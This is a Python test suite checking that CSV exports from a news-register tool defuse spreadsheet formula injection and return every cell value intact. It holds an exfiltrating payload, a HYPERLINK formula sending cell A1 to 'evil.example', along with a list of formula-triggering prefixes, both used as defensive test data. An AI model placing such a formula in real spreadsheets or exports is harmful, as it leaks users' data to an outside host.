"""CSV that a spreadsheet opens without computing anything, and that gives every cell back as it was."""

from __future__ import annotations

import csv
import io
import sys
from dataclasses import replace
from pathlib import Path

import polars
import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parents[1] / "register"))
import borduria

from communique.cli import app
from communique.commitments.model import Commitment
from communique.desk.app import build
from communique.desk.service import Desk
from communique.export import spreadsheets
from communique.export.commitments import as_csv
from communique.record import Span, document_id
from communique.register.store import Register

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\N{FULLWIDTH EQUALS SIGN}")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(st.text("'=+-@\t\r\n,;\"ab ", max_size=6), min_size=2))
def test_every_cell_is_given_back_and_none_is_a_formula(values: list[str]) -> None:
    written = spreadsheets.line(values)
    assert written.endswith("\n")
    (found,) = cells(written)
    assert not any(each.startswith(DANGEROUS) for each in found)
    assert list(map(spreadsheets.as_it_was, found)) == values


def test_numbers_stay_numbers_and_apostrophes_of_words_alone() -> None:
    written = spreadsheets.line((-10.0, -1, None, ("'t Hooft", "Ana"), "'= is it?", "-5 %"))
    assert written == "-10.0,-1,,'t Hooft;Ana,''= is it?,'-5 %\n"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A register of a report whose title, words and names begin as formulas do."""
    made = borduria.record(0)
    text = made.document.text.replace("sell copper.", "=ell copper.")
    record = replace(
        made,
        document=replace(made.document, title=FORMULA, publisher="@desk", text=text, id=document_id(text)),
        actors=(replace(made.actors[0], name="+Ana"), *made.actors[1:]),
    )
    path = tmp_path / "register.db"
    with Register.open(path) as register:
        register.keep(record, source="r")
    return path


def _written(db: Path, kind: str, folder: Path) -> dict[str, str]:
    """Return what each way to CSV gives of a kind."""
    target = folder / f"{kind}.csv"
    run = CliRunner().invoke
    assert run(app, ["export", str(target), "--kind", kind, "--db", str(db)]).exit_code == 0
    printed = run(app, [kind, "--format", "csv", "--db", str(db)])
    with Register.open(db) as register:
        web = TestClient(build(Desk(register=register, alone="a", hosts=("testserver",))))
        sent = web.get("/api/v1/export", params={"form": "csv", "kind": kind})
    return {"export": target.read_text(), "printed": printed.stdout, "desk": sent.text}


@pytest.mark.parametrize("kind", ["meetings", "statements", "events"])
def test_no_way_to_csv_gives_a_formula(db: Path, tmp_path: Path, kind: str) -> None:
    for way, text in _written(db, kind, tmp_path).items():
        rows = cells(text)
        assert len(rows) > 1, way
        for row in rows[1:]:
            named = dict(zip(rows[0], row, strict=True))
            assert spreadsheets.as_it_was(named["title"]) == FORMULA
            assert spreadsheets.as_it_was(named["publisher"]) == "@desk"
            for name, value in named.items():
                assert not value.startswith(DANGEROUS) or name in ("goldstein", "lat", "lon"), (way, name, value)


def test_numbers_of_a_file_are_read_as_numbers(db: Path, tmp_path: Path) -> None:
    _written(db, "meetings", tmp_path)
    assert polars.read_csv(tmp_path / "meetings.csv")["lon"].to_list() == [-0.1]


def test_forms_that_no_spreadsheet_opens_by_itself_hold_the_words_as_they_are(db: Path, tmp_path: Path) -> None:
    for form in ("polecat", "plover", "parquet"):
        target = tmp_path / f"out.{form}"
        assert CliRunner().invoke(app, ["export", str(target), "--as", form, "--db", str(db)]).exit_code == 0
    head, *rows = (line.split("\t") for line in (tmp_path / "out.polecat").read_text().splitlines())
    assert {dict(zip(head, row, strict=True))["Headline"] for row in rows} == {FORMULA}
    assert "'+Ana" not in (tmp_path / "out.plover").read_text()
    assert set(polars.read_parquet(tmp_path / "out.parquet")["title"].to_list()) == {FORMULA}


def test_commitments_are_no_formulas_either() -> None:
    made = Commitment(
        id="c1",
        parties=("BRD",),
        towards=("SYL",),
        act="pledge",
        areas=(),
        what="=1+1",
        what_document="d",
        what_span=Span(0, 4),
        first_said=None,
        last_said=None,
        times=1,
        speakers=("BRD",),
        status="pledged",
        trail=(),
        statements=(),
    )
    head, row = as_csv((made,))
    assert cells(row)[0][cells(head)[0].index("what")] == "'=1+1"
